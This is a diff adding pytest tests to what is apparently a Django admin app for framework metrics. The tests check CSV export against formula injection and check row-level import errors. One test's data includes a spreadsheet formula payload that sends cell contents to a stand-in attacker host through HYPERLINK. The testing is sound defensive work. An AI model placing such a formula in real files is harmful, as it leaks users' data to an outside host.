@@ -169,6 +169,51 @@ def test_csv_export_of_a_framework_history_round_trips(editor_client, catalogue)
     assert [e.row for e in errors] == [2, 3]
 
 
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "'=already quoted",
+    "'plain apostrophe",
+]
+
+
+@pytest.mark.parametrize("note", FORMULAS)
+def test_csv_export_neutralises_formulas_and_import_restores_them(editor_client, catalogue, note):
+    flask, _, stars, _ = catalogue
+    make_measurement(flask, stars, 60000, date(2021, 1, 1), source_name=note, note=note)
+    exported = editor_client.get(reverse("admin:frameworks_framework_export", args=[flask.pk])).content.decode()
+    for row in list(csv.reader(io.StringIO(exported)))[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    Measurement.objects.filter(framework=flask).delete()
+    response = editor_client.post(reverse(IMPORT), {"content": exported, "save": "1"})
+    assert response.status_code == 302
+    restored = Measurement.objects.get(framework=flask, as_of=date(2021, 1, 1))
+    assert (restored.note, restored.source_name) == (note, note)
+
+
+def test_csv_columns_in_any_order_and_short_rows_get_row_errors(editor_client, catalogue):
+    """Once answered 500: a short row left None where the parser expected text."""
+    text = "metric,framework,value,as_of,source_name,source_url,note\ngithub-stars\nstars,flask,1,2024-01-01\n"
+    errors = _upload(editor_client, text).context["parsed"].errors
+    assert {(e.row, e.column) for e in errors} >= {(2, "framework"), (2, "value"), (2, "as_of"), (3, "source_name")}
+
+
+def test_csv_a_file_the_csv_module_cannot_read_is_a_message(editor_client, catalogue):
+    text = _csv([("flask", "stars", "1", "2024-01-01", "GitHub", "https://github.com/pallets/flask", "x" * 200_000)])
+    response = _upload(editor_client, text)
+    assert response.status_code == 200
+    assert "not a CSV file we can read" in response.context["parsed"].errors[0].message
+
+
+def test_csv_text_is_normalised_before_it_is_validated(editor_client, catalogue):
+    text = _csv([("flask", "stars", "1", "2024-01-01", "\x01\x02\u200b", "https://github.com/pallets/flask", "")])
+    errors = _upload(editor_client, text).context["parsed"].errors
+    assert [(e.row, e.column) for e in errors] == [(2, "source_name")]
+
+
 def test_admin_index_counts_stale_figures(editor_client, catalogue, settings):
     flask, django, stars, forks = catalogue
     make_measurement(flask, forks, 1, timezone.localdate())
